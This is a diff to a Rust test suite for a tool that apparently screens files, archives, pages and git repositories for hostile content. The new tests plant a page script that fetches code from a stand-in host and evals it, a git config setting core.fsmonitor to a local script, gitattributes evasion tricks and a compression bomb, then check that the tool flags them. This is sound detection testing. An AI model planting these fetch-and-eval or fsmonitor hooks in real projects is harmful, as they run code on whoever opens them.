@@ -140,7 +140,7 @@ fn archives_are_read_in_memory_and_hostile_members_are_listed() {
     }
     std::fs::write(desk.dir.join("e.gz"), bomb.finish().unwrap()).unwrap();
     let (code, json) = desk.run("screen e.gz");
-    assert_eq!((code, missed(&json)[0].1.as_str()), (3, "over a limit"));
+    assert_eq!((code, missed(&json)[0].1.as_str()), (3, "over a limit: tree-mib"));
     std::fs::write(desk.dir.join("f.zip"), b"PK\x03\x04 and nothing more").unwrap();
     assert_eq!(missed(&desk.run("screen f.zip").1)[0].1, "unreadable");
     // Other compressions, two frames and streams of them, and what only begins like one.
@@ -229,7 +229,7 @@ fn code_that_is_hostile_to_parsers_ends_in_an_entry() {
     for (file, reason) in [
         ("deep.py", "code nested too deeply to be followed"),
         ("sum.py", "code nested too deeply to be followed"),
-        ("long.py", "over a limit"),
+        ("long.py", "over a limit: code-mib"),
         ("bad.py", "unparsable source, line 1"),
         ("deep.js", "code nested too deeply to be followed"),
         ("bad.ts", "unparsable source, line 1"),
@@ -516,9 +516,12 @@ fn the_recipe_for_a_server_refuses_what_would_be_blocked() {
     git(&dir, "add .");
     git(&dir, "commit -q -m one");
     git(&dir, "push -q ../server main");
-    // What a pushed file says is to be left out of archives is looked at too.
-    put(&desk, &[("work/bad.py", BAD), ("work/.gitattributes", "bad.py export-ignore\n")]);
+    // What a pushed file says is to be left out of archives, or written in other letters, is looked at as it is.
+    let attributes = "bad.py export-ignore\n*.py working-tree-encoding=UTF-16\n";
+    put(&desk, &[("work/bad.py", BAD)]);
     git(&dir, "add .");
+    put(&desk, &[("work/.gitattributes", attributes)]);
+    git(&dir, "add .gitattributes");
     git(&dir, "commit -q -m two");
     let push = std::process::Command::new("git")
         .args(["push", "-q", "../server", "main", "main:other"])
@@ -721,9 +724,9 @@ fn limits_are_set_and_what_is_over_them_is_listed() {
     std::fs::remove_file(desk.path("r/d.py")).unwrap();
     assert_eq!(desk.run("screen r").0, 0);
     for (limit, over) in [
-        ("file-mib=1", vec![("b.py", "over a limit"), ("c.py", "over a limit")]),
-        ("code-mib=1", vec![("b.py", "over a limit"), ("c.py", "over a limit")]),
-        ("all-code-mib=2", vec![("c.py", "over a limit")]),
+        ("file-mib=1", vec![("b.py", "over a limit: file-mib")]),
+        ("code-mib=1", vec![("b.py", "over a limit: code-mib")]),
+        ("all-code-mib=2", vec![("c.py", "over a limit: all-code-mib")]),
         ("files=1", vec![]),
     ] {
         let (code, found) = desk.run(&format!("screen r --limit {limit}"));
@@ -737,4 +740,62 @@ fn limits_are_set_and_what_is_over_them_is_listed() {
     for wrong in ["files", "files=0", "memory-mib=1", "nobody=1"] {
         assert_eq!(desk.run(&format!("screen r --limit {wrong}")).0, 2, "{wrong}");
     }
+}
+
+#[test]
+fn what_nobody_reads_is_not_let_through_by_a_finding_beside_it() {
+    let desk = Desk::new();
+    let odd = "x = 1;".to_owned() + &" ".repeat(300) + "print(1)\n";
+    put(
+        &desk,
+        &[("a/a.php", "<?php 1;"), ("b/odd.py", &odd), ("c/a.php", "1"), ("c/odd.py", &odd)],
+    );
+    assert_eq!(desk.run("screen b").0, 11);
+    for (paths, exit) in [("a", 3), ("b", 0), ("c", 3), ("a b", 3), ("b a", 3)] {
+        assert_eq!(desk.run(&format!("screen {paths} --fail-on block")).0, exit, "{paths}");
+    }
+    // A path that is not there is told before others are read.
+    assert_eq!(desk.run("screen b nobody").0, 2);
+    assert_eq!(desk.run("screen b --format sarif").0, 2);
+}
+
+#[test]
+fn nothing_to_read_is_no_answer_and_pages_are_read() {
+    let desk = Desk::new();
+    let page = "<p>\n<script>fetch('https://a.invalid/x').then(r => r.text()).then(eval)</script>";
+    put(
+        &desk,
+        &[
+            ("zero.zip", ""),
+            ("page/index.html", page),
+            ("page/{{ x }}.html", "<script>f({{ x }})</script>"),
+        ],
+    );
+    std::fs::create_dir(desk.path("empty")).unwrap();
+    for path in ["zero.zip", "empty"] {
+        let (code, found) = desk.run(&format!("screen {path}"));
+        assert_eq!((code, missed(&found).len()), (3, 1), "{found}");
+    }
+    let (code, found) = desk.run("screen page");
+    assert_eq!((code, &found["findings"][0]["line"], missed(&found)), (10, &2.into(), vec![]));
+}
+
+#[test]
+fn what_git_makes_is_known_and_a_repository_of_any_name_may_run_something() {
+    let desk = Desk::new();
+    let dir = two_branches(&desk);
+    git(&dir, "checkout -q main");
+    git(&dir, "branch -q -D feature");
+    std::fs::remove_dir_all(dir.join(".git/logs")).unwrap();
+    git(&dir, "worktree add -q ../tree");
+    git(&dir, "gc -q --cruft --prune=now");
+    git(&desk.dir, "clone -q --bare repo bare");
+    for path in ["repo", "bare", "tree"] {
+        let (code, found) = desk.run(&format!("screen {path}"));
+        assert_eq!((code, missed(&found)), (0, vec![]), "{path}");
+    }
+    // git runs this for whoever asks for the status in that folder.
+    git(&desk.path("bare"), "config core.fsmonitor ./run-me");
+    let (code, found) = desk.run("screen bare");
+    assert!(matches!(code, 10 | 11) && found["findings"][0]["file"] == "config", "{found}");
 }
